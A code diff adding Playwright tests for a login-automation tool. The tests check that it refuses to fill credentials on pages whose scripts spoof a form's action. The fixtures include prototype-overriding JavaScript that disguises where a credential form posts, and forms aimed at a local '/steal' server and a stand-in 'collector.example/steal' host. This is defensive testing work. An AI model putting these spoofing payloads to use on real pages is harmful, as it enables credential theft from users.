@@ -1,3 +1,5 @@
+import { createServer } from 'node:http';
+import type { AddressInfo } from 'node:net';
 import type { Browser } from 'playwright-core';
 import { afterAll, beforeAll, describe, expect, it } from 'vitest';
 import { runLogin } from '../../../src/browser/login/run-login.js';
@@ -157,6 +159,74 @@ describe('runLogin against the demo portal (real Chromium)', () => {
       expect((outcome as { message: string }).message).toMatch(/form posts to an origin that is not allowed/);
       expect(await page.locator('#password').inputValue()).toBe('');
       expect(secret.disposed).toBe(true);
+    } finally {
+      await context.close();
+    }
+  });
+
+  it("a page whose scripts make its form claim an allowed action (form getter, getAttribute) is refused; nothing is filled or sent", async () => {
+    // The foreign origin: a real server the form truly posts to (localhost is not an allowed host here).
+    const seen: string[] = [];
+    const foreign = createServer((req, res) => {
+      const chunks: Buffer[] = [];
+      req.on('data', (chunk: Buffer) => chunks.push(chunk));
+      req.on('end', () => {
+        seen.push(`${req.method} ${req.url} ${Buffer.concat(chunks).toString('utf8')}`);
+        res.end('ok');
+      });
+    });
+    await new Promise<void>((resolve) => foreign.listen(0, '127.0.0.1', resolve));
+    const steal = `http://localhost:${(foreign.address() as AddressInfo).port}/steal`;
+    const form = `<form id="real" action="${steal}" method="post"><input id="username" name="username"><input id="password" name="password" type="password"><button id="sign-in">Sign in</button></form>`;
+    const pages = {
+      // The field's form getter answers with an honest form of the page.
+      '/lying-form-getter': `<form id="decoy" action="/login" method="post"></form>${form}<script>Object.defineProperty(HTMLInputElement.prototype, 'form', { get() { return document.getElementById('decoy'); } });</script>`,
+      // The real form, but getAttribute says it posts here.
+      '/lying-get-attribute': `${form}<script>const get = Element.prototype.getAttribute; Element.prototype.getAttribute = function (name) { return name === 'action' ? '/login' : name === 'form' ? null : get.call(this, name); };</script>`,
+    };
+    try {
+      for (const [path, body] of Object.entries(pages)) {
+        for (const recipe of [{ ...VARIANTS['/login']!, injection: 'fill' as const }, null]) {
+          const secret = credential({ username: CANARY_USERNAME, password: CANARY_PASSWORD });
+          const { context, page } = await newPage(browser);
+          try {
+            await context.route(`${base}${path}`, (route) => route.fulfill({ contentType: 'text/html', body }));
+            const outcome = await runLogin(page, context, { startUrl: `${base}${path}`, recipe, successCheck: SUCCESS, failureCheck: FAILURE, timeoutMs: 5000, readCredential: async () => secret }, guard);
+            expect(outcome).toMatchObject({ ok: false });
+            expect((outcome as { step: string }).step).toMatch(recipe ? /^1: fill #username$/ : /fill the (username|password)$/);
+            expect((outcome as { message: string }).message).toBe('refused: the form posts to an origin that is not allowed (or over plain http)');
+            expect(await page.locator('#username').inputValue()).toBe('');
+            expect(await page.locator('#password').inputValue()).toBe('');
+            expect(secret.disposed).toBe(true);
+            expectNoSecrets(outcome, { password: CANARY_PASSWORD });
+          } finally {
+            await context.close();
+          }
+        }
+      }
+      expect(seen.join('\n')).not.toContain(CANARY_PASSWORD);
+      expect(seen.join('\n')).not.toContain(CANARY_USERNAME);
+    } finally {
+      await new Promise((resolve) => foreign.close(resolve));
+    }
+  });
+
+  it('fills honest fields the claim check must not refuse: form attributes (over an ancestor form, naming no form), a shadow root, no form, contenteditable', async () => {
+    const foreign = 'https://collector.example/steal';
+    const body =
+      `<form action="${foreign}"><input id="named" form="good"><input id="nameless" form="no-such-form"><input id="empty" form=""></form><form id="good" action="/login"></form>` +
+      `<input id="formless"><div id="editable" contenteditable="true"></div><div id="host"></div><p id="ready">ready</p>` +
+      `<script>document.getElementById('host').attachShadow({ mode: 'open' }).innerHTML = '<form id="good" action="/login"></form><input id="shadowed" form="good"><form action="/login"><input id="inner" type="password"></form>';</script>`;
+    const ids = ['named', 'nameless', 'empty', 'formless', 'editable', 'shadowed', 'inner'];
+    const secret = credential({ username: CANARY_USERNAME, password: CANARY_PASSWORD });
+    const { context, page } = await newPage(browser);
+    try {
+      await context.route(`${base}/honest`, (route) => route.fulfill({ contentType: 'text/html', body }));
+      const recipe: LoginRecipe = { injection: 'fill', steps: ids.map((id) => ({ fill: `#${id}`, value: '{{password}}' })) };
+      const outcome = await runLogin(page, context, { startUrl: `${base}/honest`, recipe, successCheck: { selector: '#ready' }, failureCheck: FAILURE, timeoutMs: 10_000, readCredential: async () => secret }, guard);
+      expect(outcome).toMatchObject({ ok: true });
+      for (const id of ids.filter((id) => id !== 'editable')) expect(await page.locator(`#${id}`).inputValue()).toBe(CANARY_PASSWORD);
+      expect(await page.locator('#editable').textContent()).toBe(CANARY_PASSWORD);
     } finally {
       await context.close();
     }
